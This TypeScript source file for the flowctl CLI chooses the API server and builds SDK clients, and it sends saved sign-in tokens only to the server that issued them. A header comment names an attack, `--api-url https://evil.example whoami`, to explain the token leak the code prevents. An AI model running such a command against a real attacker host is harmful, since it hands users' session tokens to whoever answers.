// The SDK client for this invocation. FLOWCTL_TOKEN and FLOWCTL_API_URL beat the saved profile
// (an explicit --api-url beats them all); refreshed tokens are written back to the profile.
//
// A saved sign-in belongs to the server that issued it (the profile's `apiUrl`): pointed at any other
// server, the CLI sends it nothing, neither the access token nor the refresh token, and says to sign in
// there. Otherwise `--api-url https://evil.example whoami` would hand the session to whoever answers.
import type { Flowctl } from '@flowctl/sdk';

import type { Ctx } from './context.js';
import { DEFAULT_API_URL, type Profile, readProfile, updateProfile } from './credentials.js';
import { normalizeApiUrl } from './api-url.js';
import { CliError, EXIT, notSignedIn, usageError } from './errors.js';
import { flowctlCommand, shellWord } from './next-command.js';

export { normalizeApiUrl };

const URL_SHAPE = 'a server URL looks like http(s)://host[:port], e.g. http://127.0.0.1:3000';

/** The server of this invocation, normalized; a value that is no URL is a usage error naming where it came from. */
export const apiUrlOf = (ctx: Ctx): string => {
    const [text, from] =
        ctx.apiUrlFlag !== undefined
            ? [ctx.apiUrlFlag, '--api-url']
            : ctx.io.env.FLOWCTL_API_URL
              ? [ctx.io.env.FLOWCTL_API_URL, 'FLOWCTL_API_URL']
              : [readProfile(ctx.profile, ctx.io.env).apiUrl ?? DEFAULT_API_URL, `the apiUrl of profile '${ctx.profile}'`];
    const url = normalizeApiUrl(text);
    if (!url) {
        throw usageError(`${from} is not a server URL: '${text}'`, URL_SHAPE);
    }

    return url;
};

const hasTokens = (profile: Profile): boolean => Boolean(profile.accessToken || profile.refreshToken);

/** Whether the profile's saved tokens were issued by `apiUrl` (the only server they may go to). */
export const tokensBelongTo = (profile: Profile, apiUrl: string): boolean =>
    hasTokens(profile) && normalizeApiUrl(profile.apiUrl ?? DEFAULT_API_URL) === apiUrl;

/** Where the credentials of this invocation come from, for `whoami` and error messages. */
export const credentialSource = (ctx: Ctx): 'FLOWCTL_TOKEN' | 'profile' | null => {
    if (ctx.io.env.FLOWCTL_TOKEN) {
        return 'FLOWCTL_TOKEN';
    }

    return tokensBelongTo(readProfile(ctx.profile, ctx.io.env), apiUrlOf(ctx)) ? 'profile' : null;
};

export const saveTokens = (ctx: Ctx, apiUrl: string, pair: { accessToken: string; refreshToken: string }): void => {
    updateProfile(ctx.profile, { apiUrl, accessToken: pair.accessToken, refreshToken: pair.refreshToken }, ctx.io.env);
};

/** A client without credentials, for register / verify / login. */
export const anonymousClient = async (ctx: Ctx): Promise<Flowctl> => {
    const { Flowctl } = await import('@flowctl/sdk');
    const baseUrl = apiUrlOf(ctx);
    return new Flowctl({ baseUrl, onTokens: (pair) => saveTokens(ctx, baseUrl, pair) });
};

/** A signed-in client, or exit 3 with the command to sign in. */
export const client = async (ctx: Ctx): Promise<Flowctl> => {
    const baseUrl = apiUrlOf(ctx);
    const apiToken = ctx.io.env.FLOWCTL_TOKEN;
    const profile = readProfile(ctx.profile, ctx.io.env);
    const named = ctx.profile === 'default' ? '' : ` (profile '${ctx.profile}')`;
    if (!apiToken && !hasTokens(profile)) {
        throw notSignedIn(`not signed in${named}`, flowctlCommand(ctx, 'login'));
    }

    if (!apiToken && !tokensBelongTo(profile, baseUrl)) {
        throw new CliError(
            `not signed in to ${baseUrl}${named}: the saved sign-in is for ${profile.apiUrl ?? DEFAULT_API_URL}, and is only ever sent there`,
            EXIT.auth,
            `sign in there: flowctl login --api-url ${baseUrl}${named ? ` --profile ${shellWord(ctx.profile)}` : ''} (add --profile <name> to keep both sign-ins; in CI, set FLOWCTL_TOKEN to an API token of that server)`
        );
    }

    const { Flowctl } = await import('@flowctl/sdk');
    if (apiToken) {
        return new Flowctl({ baseUrl, apiToken });
    }

    return new Flowctl({
        baseUrl,
        accessToken: profile.accessToken,
        refreshToken: profile.refreshToken,
        onTokens: (pair) => saveTokens(ctx, baseUrl, pair)
    });
};
